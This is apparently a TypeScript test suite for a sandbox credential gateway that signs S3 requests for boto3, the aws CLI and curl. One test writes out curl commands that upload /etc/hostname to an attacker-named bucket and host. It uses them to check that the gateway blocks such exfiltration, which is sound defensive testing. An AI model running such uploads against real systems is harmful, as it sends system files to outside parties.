import { spawn } from 'node:child_process'
import { existsSync, writeFileSync } from 'node:fs'
import t, { type Test } from 'tap'
import { Secret } from '#firewall/secrets/secret.js'
import { sigv4 } from '#proxy/credentials/sigv4.js'
import { CertificateAuthority } from '#proxy/tls/certificate-authority.js'
import { connectThrough, exchangeBytes, tls } from './fixtures/client.js'
import { SANDBOX, startGateway } from './fixtures/gateway.js'
import { destination, service, testPolicy } from './fixtures/policy.js'
import { PYTHON, startS3 } from './servers/s3.js'
import { WITHOUT_BOTO3 } from './fixtures/sigv4-oracle.js'
import { forAnyName } from './fixtures/upstream.js'

// Requests to S3 by its real clients, which have nothing but worthless keys, against a placeholder that verifies every
// signature with botocore.

/** The program of Debian, not another one on the path. */
const AWS = '/usr/bin/aws'
const WITHOUT_AWS = existsSync(AWS) ? WITHOUT_BOTO3 : 'awscli is not installed'

const REGION = 'eu-central-1'
const KEYS = {
  access: 'AKIAIOSFODNN7EXAMPLE',
  secret: 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',
  region: REGION,
}
const PLACEHOLDER = { access: 'AKIASTANDINSTANDIN22', secret: 'standinstandinstandinstandin0000' }
const S3_HOST = `s3.${REGION}.amazonaws.com`
const BUCKET_HOST = `reports.${S3_HOST}`

async function setUp(t: Test, secret = KEYS.secret) {
  const authority = await CertificateAuthority.create(Date.now())
  const s3 = await startS3(forAnyName(authority), KEYS)
  const credential = sigv4.bind('s3/sigv4', {
    access_key: new Secret('AWS_ACCESS_KEY_ID', KEYS.access),
    secret_key: new Secret('AWS_SECRET_ACCESS_KEY', secret),
    region: new Secret('plain text', REGION, []),
    service: new Secret('plain text', 's3', []),
  })
  const of = { id: 'services.s3', service: 's3', ca: authority.pem }
  const at = { address: '127.0.0.1', port: s3.port }
  const origins = [S3_HOST, BUCKET_HOST]
  const [first, second] = origins.map((host) => service('s3', `https://${host}`, credential))
  const gateway = await startGateway(
    testPolicy({
      destinations: [
        destination(`https://${S3_HOST}`, ['allow * /reports/**'], of),
        destination(`https://${BUCKET_HOST}`, ['allow * /**'], of),
      ],
      services: [
        service('s3', `https://${S3_HOST}`, credential, {
          targets: [first, second].flatMap((one) => one?.targets ?? []),
          placeholders: {
            AWS_ACCESS_KEY_ID: { prefix: 'AKIA', length: 20, alphabet: 'upper-alphanumeric' },
            AWS_SECRET_ACCESS_KEY: { prefix: '', length: 40, alphabet: 'alphanumeric' },
          },
        }),
      ],
      // The attacker's bucket is there, beside: what keeps the sandbox from it is the policy.
      hosts: { [S3_HOST]: at, [BUCKET_HOST]: at, [`attacker.${S3_HOST}`]: at },
      http: { responseTimeoutMs: 60_000, idleTimeoutMs: 60_000 },
    }),
    () => ({
      ...SANDBOX,
      placeholders: new Map([
        ['AWS_ACCESS_KEY_ID', PLACEHOLDER.access],
        ['AWS_SECRET_ACCESS_KEY', PLACEHOLDER.secret],
      ]),
    }),
  )
  const directory = t.testdir({})
  const bundle = `${directory}/ca.pem`
  writeFileSync(bundle, gateway.ca)
  t.teardown(async () => {
    await gateway.close()
    s3.close()
  })
  /** Runs a client with the environment of a sandbox. */
  const run = (command: readonly string[], environment: Readonly<Record<string, string>> = {}) =>
    runClient(command, directory, {
      PATH: '/usr/local/bin:/usr/bin:/bin',
      HOME: directory,
      HTTPS_PROXY: `http://127.0.0.1:${String(gateway.ports.forward)}`,
      AWS_CA_BUNDLE: bundle,
      SSL_CERT_FILE: bundle,
      CURL_CA_BUNDLE: bundle,
      AWS_ACCESS_KEY_ID: PLACEHOLDER.access,
      AWS_SECRET_ACCESS_KEY: PLACEHOLDER.secret,
      AWS_DEFAULT_REGION: REGION,
      AWS_EC2_METADATA_DISABLED: 'true',
      AWS_MAX_ATTEMPTS: '1',
      ...environment,
    })
  return { gateway, s3, run, directory, authority }
}

function runClient(command: readonly string[], cwd: string, env: Record<string, string>) {
  const [program = '', ...args] = command
  const child = spawn(program, args, { cwd, env, stdio: ['ignore', 'pipe', 'pipe'] })
  let output = ''
  for (const stream of [child.stdout, child.stderr])
    stream.on('data', (chunk: Buffer) => (output += chunk.toString()))
  return new Promise<{ readonly code: number | null; readonly output: string }>((resolve, reject) => {
    child.once('error', reject)
    child.once('close', (code) => resolve({ code, output }))
  })
}

const CLIENT = `
import boto3, hashlib, io, os, sys, urllib.request
from botocore.config import Config
style, bucket = sys.argv[1], 'reports'
s3 = boto3.client('s3', endpoint_url='https://s3.eu-central-1.amazonaws.com', config=Config(signature_version='s3v4', s3={'addressing_style': style}))
`

const OBJECTS = `${CLIENT}
odd = "dir/a b+c(1)'\\u00e4\\u2603=:@&$,!~*"
s3.put_object(Bucket=bucket, Key=odd, Body=b'hello', ContentType='text/plain', Metadata={'n': 'x  y'})
assert s3.get_object(Bucket=bucket, Key=odd)['Body'].read() == b'hello'
s3.put_object(Bucket=bucket, Key='dir/checked', Body=b'x' * 300000, ChecksumAlgorithm='CRC32')
assert s3.get_object(Bucket=bucket, Key='dir/checked', Range='bytes=1000-1999')['Body'].read() == b'x' * 1000
keys = [one['Key'] for one in s3.list_objects_v2(Bucket=bucket, Prefix='dir/')['Contents']]
assert keys == sorted([odd, 'dir/checked']), keys
get = s3.generate_presigned_url('get_object', Params={'Bucket': bucket, 'Key': odd}, ExpiresIn=60)
assert urllib.request.urlopen(get).read() == b'hello'
put = s3.generate_presigned_url('put_object', Params={'Bucket': bucket, 'Key': 'put'}, ExpiresIn=60)
urllib.request.urlopen(urllib.request.Request(put, data=b'by url', method='PUT', headers={'content-type': ''}))
assert s3.get_object(Bucket=bucket, Key='put')['Body'].read() == b'by url'
s3.delete_object(Bucket=bucket, Key=odd)
s3.delete_objects(Bucket=bucket, Delete={'Objects': [{'Key': 'dir/checked'}, {'Key': 'put'}]})
assert s3.list_objects_v2(Bucket=bucket)['KeyCount'] == 0
print('done')
`

const MULTIPART = `${CLIENT}
big = os.urandom(64 * 1024 * 1024)
s3.upload_fileobj(io.BytesIO(big), bucket, 'big')
assert s3.head_object(Bucket=bucket, Key='big')['ContentLength'] == len(big)
back = io.BytesIO()
s3.download_fileobj(bucket, 'big', back)
assert hashlib.sha256(back.getvalue()).digest() == hashlib.sha256(big).digest()
print('done')
`

void t.test(
  'boto3: put, get, list, presigned, delete, in both styles of address',
  { skip: WITHOUT_BOTO3 },
  async (t) => {
    const { s3, gateway, run } = await setUp(t)
    for (const style of ['path', 'virtual']) {
      const { code, output } = await run([PYTHON, '-c', OBJECTS, style])
      t.equal(code, 0, output)
      t.match(output, /done/)
    }
    t.strictSame(
      s3.requests.filter(({ error }) => error !== null),
      [],
    )
    t.ok(s3.requests.length >= 20)
    const payloads = new Set(s3.requests.map(({ payload }) => payload))
    t.ok(payloads.has('STREAMING-UNSIGNED-PAYLOAD-TRAILER'), 'a body with a trailer was among them')
    t.strictSame(gateway.failures, [])
  },
)

void t.test('boto3: 64 MiB in parts, there and back', { skip: WITHOUT_BOTO3 }, async (t) => {
  const { s3, run } = await setUp(t)
  t.match(await run([PYTHON, '-c', MULTIPART, 'virtual']), { code: 0, output: /done/ })
  t.ok(s3.requests.every(({ error }) => error === null))
  t.equal(s3.requests.filter(({ target }) => target.includes('partNumber=')).length, 8)
})

void t.test('the aws command: copy, list, presign, remove', { skip: WITHOUT_AWS }, async (t) => {
  const { s3, run, directory } = await setUp(t)
  writeFileSync(`${directory}/report`, 'a report')
  const aws = async (...args: string[]) => {
    const { code, output } = await run([AWS, ...args])
    t.equal(code, 0, output)
    return output
  }
  await aws('s3', 'cp', 'report', 's3://reports/dir/my report', '--no-progress')
  t.match(await aws('s3', 'ls', 's3://reports/dir/'), /8 my report/)
  t.match(await aws('s3', 'cp', 's3://reports/dir/my report', '-'), /a report/)
  const url = (await aws('s3', 'presign', 's3://reports/dir/my report')).trim()
  t.match(url, PLACEHOLDER.access)
  t.match(await run(['curl', '-sS', url]), { code: 0, output: 'a report' })
  await aws('s3', 'rm', 's3://reports/dir/my report')
  t.ok(s3.requests.length >= 5)
  t.ok(s3.requests.every(({ error }) => error === null))
})

void t.test(
  'without the gateway, the keys of the sandbox are worth nothing',
  { skip: WITHOUT_BOTO3 },
  async (t) => {
    const { s3, run, authority, directory } = await setUp(t)
    writeFileSync(`${directory}/s3.pem`, authority.pem)
    const direct = ['curl', '-sS', '--noproxy', '*', '--cacert', 's3.pem']
    const resolve = ['--resolve', `${S3_HOST}:${String(s3.port)}:127.0.0.1`]
    const sign = ['--aws-sigv4', `aws:amz:${REGION}:s3`, '-H', `x-amz-content-sha256: UNSIGNED-PAYLOAD`]
    const url = `https://${S3_HOST}:${String(s3.port)}/reports/a`
    const refused = await run([
      ...direct,
      ...resolve,
      ...sign,
      '-u',
      `${PLACEHOLDER.access}:${PLACEHOLDER.secret}`,
      url,
    ])
    t.match(refused.output, /InvalidAccessKeyId/)
    const real = await run([...direct, ...resolve, ...sign, '-u', `${KEYS.access}:${KEYS.secret}`, url])
    t.match(real.output, /NoSuchKey/, 'with the real ones they are good')
    const unsigned = await run([...direct, ...resolve, url])
    t.match(unsigned.output, /not signed/)
  },
)

void t.test(
  "what curl signs, what nobody signed, and other people's buckets",
  { skip: WITHOUT_BOTO3 },
  async (t) => {
    const { s3, run } = await setUp(t)
    const object = `https://${S3_HOST}/reports/a`
    const sign = ['--aws-sigv4', `aws:amz:${REGION}:s3`, '-u', `${PLACEHOLDER.access}:${PLACEHOLDER.secret}`]
    const curl = (...args: string[]) => run(['curl', '-sS', '-w', '%{http_code}', ...args])
    t.match((await curl(...sign, '-T', '/etc/hostname', object)).output, '200')
    t.match((await curl(object)).output, /200$/, 'a request that nobody signed is signed')
    t.match((await curl(...sign, `${object}?prefix=a+b&x=*`)).output, /200$/)
    const before = s3.requests.length
    for (const url of [`https://attacker.${S3_HOST}/a`, `https://${S3_HOST}/attacker/a`])
      t.match((await curl(...sign, '-T', '/etc/hostname', url)).output, /403/, url)
    const own = ['--aws-sigv4', `aws:amz:${REGION}:s3`, '-u', 'AKIAATTACKERATTACKER:attacker-secret']
    t.match((await curl(...own, object)).output, /credential-unsupported[\s\S]*403$/, 'keys of his own')
    t.match((await curl('-H', 'Authorization: Bearer x', object)).output, /credential-unsupported[\s\S]*403$/)
    t.equal(s3.requests.length, before, 'none of these reached the service')
  },
)

void t.test(
  'a signature that S3 finds wrong is said to be so, without the key that it names',
  { skip: WITHOUT_BOTO3 },
  async (t) => {
    const { run, s3 } = await setUp(t, 'another-secret-0123456789')
    const { output } = await run(['curl', '-sS', `https://${S3_HOST}/reports/a`])
    t.match(output, /SignatureDoesNotMatch/)
    t.notMatch(output, KEYS.access)
    t.equal(s3.requests[0]?.error, 'SignatureDoesNotMatch')
  },
)

void t.test(
  'chunks that the client signed, with and without a trailer',
  { skip: WITHOUT_BOTO3 },
  async (t) => {
    const { gateway, s3, run } = await setUp(t)
    const none = '0'.repeat(64)
    const chunk = (data: string, end = '\r\n') =>
      `${data.length.toString(16)};chunk-signature=${none}\r\n${data}${end}`
    const put = async (key: string, payload: string, body: string, more = '') => {
      const { socket } = await connectThrough(gateway, `${S3_HOST}:443`)
      return exchangeBytes(
        await tls(gateway, socket, S3_HOST),
        `PUT /reports/${key} HTTP/1.1\r\nHost: ${S3_HOST}\r\nConnection: close\r\nContent-Length: ${String(body.length)}\r\n` +
          `Authorization: AWS4-HMAC-SHA256 Credential=${PLACEHOLDER.access}/20200101/x/s3/aws4_request, SignedHeaders=host, Signature=${none}\r\n` +
          `X-Amz-Content-Sha256: ${payload}\r\nX-Amz-Decoded-Content-Length: 70000\r\nContent-Encoding: aws-chunked\r\n${more}\r\n${body}`,
      )
    }
    const data = chunk('a'.repeat(65_536)) + chunk('b'.repeat(4_464))
    const plain = 'STREAMING-AWS4-HMAC-SHA256-PAYLOAD'
    t.match(await put('chunks', plain, data + chunk('')), /^HTTP\/1\.1 200 /)
    const crc32 = crc32Of('a'.repeat(65_536) + 'b'.repeat(4_464))
    const trailer = `${chunk('', '')}x-amz-checksum-crc32:${crc32}\r\nx-amz-trailer-signature:${none}\r\n\r\n`
    t.match(
      await put('trailer', `${plain}-TRAILER`, data + trailer, 'X-Amz-Trailer: x-amz-checksum-crc32\r\n'),
      /^HTTP\/1\.1 200 /,
    )
    t.match(await put('broken', plain, `${data}1;chunk-signature=x\r\nc\r\n${chunk('')}`), /^HTTP\/1\.1 403 /)
    t.equal(gateway.closes.at(-1)?.reason, 'credential-unsupported')
    t.strictSame(gateway.failures, [])
    const stored = async (key: string) =>
      (await run(['curl', '-sS', '-w', '%{http_code}', `https://${S3_HOST}/reports/${key}`])).output.slice(-3)
    t.equal(await stored('chunks'), '200')
    t.equal(await stored('trailer'), '200')
    t.equal(await stored('broken'), '404', 'nothing of it was stored')
    t.strictSame(
      s3.requests
        .flatMap(({ error }) => (error === null ? [] : [error]))
        .filter((error) => error !== 'IncompleteBody'),
      ['NoSuchKey'],
    )
  },
)

/** RFC 1952 section 8, as S3 writes it: four bytes, the highest first, in base64. */
function crc32Of(text: string): string {
  let crc = 0xffffffff
  for (const byte of Buffer.from(text)) {
    crc ^= byte
    for (let bit = 0; bit < 8; bit += 1) crc = (crc >>> 1) ^ (crc & 1 ? 0xedb88320 : 0)
  }
  const bytes = Buffer.alloc(4)
  bytes.writeUInt32BE((crc ^ 0xffffffff) >>> 0)
  return bytes.toString('base64')
}
